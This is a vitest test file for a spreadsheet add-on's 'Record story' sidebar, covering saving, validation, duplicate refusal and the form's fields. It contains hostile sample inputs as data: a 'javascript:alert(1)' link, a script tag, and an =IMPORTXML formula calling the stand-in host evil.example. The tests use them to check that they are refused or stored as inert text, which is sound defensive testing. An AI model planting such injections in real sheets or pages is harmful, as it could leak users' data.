import { describe, it, expect } from 'vitest';
import { storiesTab, type Story } from '../../../shared/records/story';
import { expectFormSavesWith, expectOneWrite, noFormulas, openSidebar, refusedWith, rows, saveOk, setUpDemo } from './form-fixture';

// "Record story…": the sidebar and its Save (recordStory), one row of Stories.

const POST = {
  kind: 'Social Media',
  title: 'Our bus map is live',
  outlet: 'Instagram',
  link: 'https://www.instagram.com/p/cil-demo-bus-map',
  publishedOn: '25/11/2026',
  views: '1520',
  reactions: '212',
  shares: '38',
};

describe('recordStory', () => {
  it('appends one story with its figures, in one write', () => {
    const demo = setUpDemo();
    const before = rows(demo, storiesTab);
    const { saved, result } = saveOk<Story>(demo, 'recordStory', POST);
    const expected = {
      id: expect.stringMatching(/^s-[0-9a-f]{8}$/),
      kind: 'social media',
      title: 'Our bus map is live',
      outlet: 'Instagram',
      link: 'https://www.instagram.com/p/cil-demo-bus-map',
      publishedOn: '2026-11-25',
      views: 1520,
      reactions: 212,
      shares: 38,
    };
    expect(saved.record).toEqual(expected);
    expect(rows(demo, storiesTab)).toEqual([...before, expected]);
    expect(saved.message).toBe(`Recorded the social media "Our bus map is live" in row ${before.length + 2} of Stories.`);
    expectOneWrite(result, storiesTab.columns.length);
  });

  it('takes a press mention without a link or figures', () => {
    const demo = setUpDemo();
    const { saved } = saveOk<Story>(demo, 'recordStory', { kind: 'press mention', title: 'Volunteers map Lahore buses', outlet: 'Dawn', publishedOn: '2026-11-20' });
    expect(saved.record).toEqual({ id: saved.record.id, kind: 'press mention', title: 'Volunteers map Lahore buses', outlet: 'Dawn', publishedOn: '2026-11-20' });
  });

  it('refuses bad input with every problem named by its column, and writes nothing', () => {
    const demo = setUpDemo();
    expect(refusedWith(demo, 'recordStory', { ...POST, kind: 'podcast', link: 'javascript:alert(1)', views: 'many', shares: '-1' })).toBe(
      'Cannot record the story: "Kind" must be one of: blog post, press mention, social media (found "podcast"); "Link" must be a web address starting with https:// (found "javascript:alert(1)"); "Views" must be a number (found "many"); "Shares" must be at least 0 (found "-1"). Nothing was written.',
    );
    expect(refusedWith(demo, 'recordStory', { ...POST, publishedOn: '1 Dec 2026' })).toBe(
      'Cannot record the story: "Published on" is 2026-12-01, after today (2026-11-27): record a story once it is out. Nothing was written.',
    );
  });

  it('refuses a story already recorded', () => {
    const demo = setUpDemo();
    const row = rows(demo, storiesTab).length + 2;
    saveOk(demo, 'recordStory', POST);
    expect(refusedWith(demo, 'recordStory', { ...POST, title: 'Bus map (again)' })).toBe(
      `Cannot record the story: "Our bus map is live" is already in the Stories tab (row ${row}). Nothing was written.`,
    );
  });

  it('keeps hostile text as text', () => {
    const demo = setUpDemo();
    const title = '=IMPORTXML("http://evil.example","//a")';
    saveOk(demo, 'recordStory', { ...POST, title, outlet: '<script>x</script>' });
    expect(rows(demo, storiesTab).at(-1)).toMatchObject({ title, outlet: '<script>x</script>' });
    noFormulas(demo, 'Stories');
  });
});

describe('the "Record story…" sidebar', () => {
  it('offers the kinds of story and saves with recordStory', () => {
    const demo = setUpDemo();
    const { title, html } = openSidebar(demo, 'openRecordStorySidebar');
    expect(title).toBe('Record story');
    expectFormSavesWith(html, 'recordStory');
    expect(html).toContain('<option value="blog post">blog post</option><option value="press mention">press mention</option><option value="social media">social media</option>');
    for (const name of ['kind', 'title', 'outlet', 'link', 'publishedOn', 'views', 'reactions', 'shares']) expect(html).toContain(`name="${name}"`);
  });
});
